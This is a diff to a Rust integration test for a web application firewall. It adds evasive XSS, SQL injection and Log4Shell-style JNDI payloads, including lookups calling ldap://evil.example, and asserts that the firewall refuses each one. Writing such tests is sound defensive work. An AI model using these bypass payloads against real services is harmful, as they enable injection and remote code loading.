@@ -722,6 +722,60 @@ async fn what_an_outside_attack_found_is_refused_and_look_alikes_pass() {
     .await;
     problem(resp, 403, "waf.nosql").await;
 
+    // The third round: a boundary inside a line; JSON under another type, or none, that
+    // strict reading stops in (a duplicate key, NaN) or that is UTF-16; text that is not
+    // UTF-8; Java's case mapping and long defaults in lookups; a tab entity in a URL.
+    let text = "text/plain";
+    let utf16_json: String =
+        r#"{"q":"<img src=x onerror=alert(1)>"}"#.encode_utf16().flat_map(u16::to_le_bytes).map(char::from).collect();
+    let third: Vec<(&str, String, &str)> = vec![
+        (
+            multipart,
+            "--XB\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx--XB\r\nContent-Disposition: form-data; name=\"b\"; filename=\"f.txt\"\r\n\r\n1' OR '1'='1\r\n--XB--\r\n".into(),
+            "waf.body_unparsable",
+        ),
+        (
+            "application/x-www-form-urlencoded",
+            r#"{"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#.into(),
+            "waf.xss",
+        ),
+        (text, r#"{"q":"x","q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#.into(), "waf.xss"),
+        ("", r#"{"a":NaN,"q":"1\u0027 OR \u00271\u0027=\u00271"}"#.into(), "waf.sqli"),
+        (text, utf16_json, "waf.xss"),
+        (
+            json,
+            format!(r#"{{"q":"${{${{env:{}:-j}}ndi:ldap://evil.example/a}}"}}"#, "A".repeat(70)),
+            "waf.jndi",
+        ),
+        (json, r#"{"q":"<a href=\"jav&#x09;ascript:alert(1)\">x</a>"}"#.into(), "waf.xss"),
+        (json, r#"{"q":"<a href=\"jav&Tab;ascript:alert(1)\">x</a>"}"#.into(), "waf.xss"),
+    ];
+    for (content_type, body, reason) in &third {
+        let mut request = gw.http.post(gw.url("/guarded/x")).body(body.clone());
+        if !content_type.is_empty() {
+            request = request.header("content-type", *content_type);
+        }
+        let status = if reason.ends_with("unparsable") { 400 } else { 403 };
+        problem(request.send().await.unwrap(), status, reason).await;
+    }
+    let not_utf8 = gw
+        .http
+        .post(gw.url("/guarded/x"))
+        .header("content-type", "text/plain")
+        .body(b"1' OR '1'='1 \xff".to_vec())
+        .send()
+        .await
+        .unwrap();
+    problem(not_utf8, 403, "waf.sqli").await;
+    let dotless = gw
+        .http
+        .get(gw.url("/guarded/x"))
+        .header("accept-language", "${jnd${upper:\u{131}}:ldap://evil.example/a}")
+        .send()
+        .await
+        .unwrap();
+    problem(dotless, 403, "waf.jndi").await;
+
     // Look-alikes: prose with separators, documentation of lookups, ordinary XML and forms.
     let benign: Vec<(&str, String)> = vec![
         (json, r#"{"v":"Tickets; id required at the door"}"#.into()),
